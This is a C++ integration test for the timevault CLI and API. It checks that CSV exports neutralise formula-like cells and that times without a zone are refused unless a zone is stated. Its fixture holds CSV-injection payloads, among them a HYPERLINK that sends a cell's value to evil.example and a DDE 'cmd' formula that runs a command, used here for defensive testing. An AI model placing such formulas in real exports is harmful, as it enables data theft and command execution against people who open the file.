// Exports and typed times against a real store (real Postgres, real Kafka,
// `timevault capture` and `timevault store`), through the CLI and the API:
//   - CSV cells that start like a formula come out neutralised (OWASP), the
//     same from `timevault state --format csv` and `GET .../state?format=csv`;
//   - a time without a zone is refused unless --tz or api.time_zone states
//     the zone, and is then read in it.
#include <gtest/gtest.h>
#include <httplib.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <string>
#include <thread>

#include "support/capture_harness.h"
#include "support/testenv.h"
#include "timevault/core/crypto.h"

namespace timevault::testing {
namespace {

constexpr const char* kToken = "export-viewer-secret";

// Each value as Postgres holds it, and the CSV line its row must give.
const std::vector<std::pair<std::string, std::string>> kCells = {
    {R"c(=HYPERLINK("http://evil.example/?"&A1,"x"))c", R"c(1,ta,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")")c"},
    {"+1+cmd|' /C calc'!A0", "2,ta,'+1+cmd|' /C calc'!A0"},
    {"-2+3", "3,ta,'-2+3"},
    {"@SUM(A1:A9)", "4,ta,'@SUM(A1:A9)"},
    {"\t=1", "5,ta,'\t=1"},
    {"-5", "6,ta,-5"},
    {"plain", "7,ta,plain"},
};

std::string Sql(const std::string& v) {
  std::string out = "E'";
  for (char c : v) {
    if (c == '\'')
      out += "''";
    else if (c == '\\')
      out += "\\\\";
    else if (c == '\t')
      out += "\\t";
    else
      out += c;
  }
  return out + "'";
}

// The CLI ends lines with LF, the API with CRLF (RFC 4180).
void ExpectCells(const std::string& csv, const std::string& what, const std::string& eol = "\n") {
  EXPECT_EQ(csv.substr(0, csv.find(eol)), "id,tenant_id,v") << what << ":\n" << csv;
  for (const auto& [value, line] : kCells) {
    EXPECT_NE(csv.find(eol + line + eol), std::string::npos) << what << ": no line " << line << " in\n" << csv;
  }
}

TEST(Exports, CsvCellsAreNeutralisedAndZoneLessTimesNeedAStatedZone) {
  CaptureHarness h;
  h.Exec("CREATE TABLE cells (id int PRIMARY KEY, tenant_id text NOT NULL, v text)");
  ASSERT_NO_FATAL_FAILURE(h.StartCapture());
  h.StartStore();
  for (size_t i = 0; i < kCells.size(); ++i) {
    h.Exec("INSERT INTO cells VALUES (" + std::to_string(i + 1) + ", 'ta', " + Sql(kCells[i].first) + ")");
  }
  // The time after the rows, UTC, without a zone; then a later commit, so
  // the recoverable point is past that time.
  std::this_thread::sleep_for(std::chrono::milliseconds(1100));
  const std::string zoneless = h.Query("SELECT to_char(now() AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS')");
  std::this_thread::sleep_for(std::chrono::milliseconds(1100));
  h.Exec("INSERT INTO cells VALUES (100, 'tb', 'other tenant')");
  const uint64_t end = ParseLsnText(h.Query("SELECT pg_current_wal_insert_lsn()"));
  auto s = h.StopStoreAt(end);
  ASSERT_NE(s, nullptr) << h.store().ReadLog();
  s.reset();  // the CLI and the API open it read-only
  EXPECT_EQ(h.capture().Stop(), 0);

  const std::string cli =
      std::string("env -u TIMEVAULT_CONFIG -u TIMEVAULT_TZ ") + TV_BINARY + " --config " + h.config_path() + " ";
  const std::string state = " state --tenant ta --table public.cells --format csv --at ";
  // With a zone: the export, every formula neutralised.
  auto r = RunCommand(cli + state + zoneless + "Z 2>/dev/null");
  ASSERT_EQ(r.exit_code, 0) << r.output;
  ExpectCells(r.output, "CLI");

  // Without one: refused, naming the way out.
  r = RunCommand(cli + state + zoneless + " 2>&1");
  EXPECT_EQ(r.exit_code, 2) << r.output;  // InvalidArgument: a usage error
  EXPECT_NE(r.output.find("unless --tz or api.time_zone states the zone"), std::string::npos) << r.output;
  // Stated: read in that zone. UTC gives the same export; +14:00 puts the
  // time 14 hours earlier, before any of the rows.
  r = RunCommand(cli + "--tz UTC" + state + zoneless + " 2>/dev/null");
  EXPECT_EQ(r.exit_code, 0) << r.output;
  ExpectCells(r.output, "CLI --tz UTC");
  r = RunCommand("TIMEVAULT_API_TIME_ZONE=UTC " + cli + state + zoneless + " 2>/dev/null");
  EXPECT_EQ(r.exit_code, 0) << r.output;
  ExpectCells(r.output, "CLI api.time_zone = UTC");
  r = RunCommand(cli + "--tz +14:00" + state + zoneless + " 2>&1");
  EXPECT_EQ(r.output.find("plain"), std::string::npos) << "read as UTC despite --tz +14:00:\n" << r.output;
  r = RunCommand(cli + "--tz Europe/Paris" + state + zoneless + " 2>&1");
  EXPECT_EQ(r.exit_code, 2) << r.output;
  EXPECT_NE(r.output.find("expected UTC or a fixed offset"), std::string::npos) << r.output;
  r = RunCommand("TIMEVAULT_API_TIME_ZONE=Europe/Paris " + cli + "config 2>&1");
  EXPECT_EQ(r.exit_code, 2) << r.output;
  EXPECT_NE(r.output.find("api.time_zone"), std::string::npos) << r.output;

  // The API: `timevault serve` with api.time_zone stated, then without.
  for (const bool stated : {true, false}) {
    SCOPED_TRACE(stated ? "api.time_zone = UTC" : "no api.time_zone");
    const int port = FreePort();
    TempDir dir;
    const std::string config = dir.path() + "/serve.toml";
    std::filesystem::copy_file(h.config_path(), config);
    std::ofstream(config, std::ios::app) << "[api]\nlisten = \"127.0.0.1:" << port << "\"\n"
                                         << (stated ? "time_zone = \"UTC\"\n" : "")
                                         << "[[api.tokens]]\nname = \"viewer\"\nsha256 = \""
                                         << crypto::Sha256Hex(kToken) << "\"\nrole = \"viewer\"\ntenants = [\"ta\"]\n";
    Process serve;
    ASSERT_TRUE(serve.Start({TV_BINARY, "--config", config, "serve"}, dir.path() + "/serve.log"));
    httplib::Client c("127.0.0.1", port);
    c.set_read_timeout(10);
    const httplib::Headers auth = {{"Authorization", std::string("Bearer ") + kToken}};
    const std::string path = "/v1/tenants/ta/state?table=public.cells&format=csv&at=" + zoneless;
    auto got = c.Get(path, auth);
    for (int i = 0; i < 100 && !got; ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(200));
      got = c.Get(path, auth);
    }
    ASSERT_TRUE(got) << serve.ReadLog();
    if (stated) {
      EXPECT_EQ(got->status, 200) << got->body;
      ExpectCells(got->body, "API", "\r\n");
    } else {
      EXPECT_EQ(got->status, 400) << got->body;
      EXPECT_NE(got->body.find("refused unless api.time_zone states one"), std::string::npos) << got->body;
      auto with_zone = c.Get("/v1/tenants/ta/state?table=public.cells&format=csv&at=" + zoneless + "Z", auth);
      ASSERT_TRUE(with_zone);
      EXPECT_EQ(with_zone->status, 200) << with_zone->body;
      ExpectCells(with_zone->body, "API with a zone", "\r\n");
    }
    EXPECT_EQ(serve.Stop(), 0) << serve.ReadLog();
  }
}

}  // namespace
}  // namespace timevault::testing
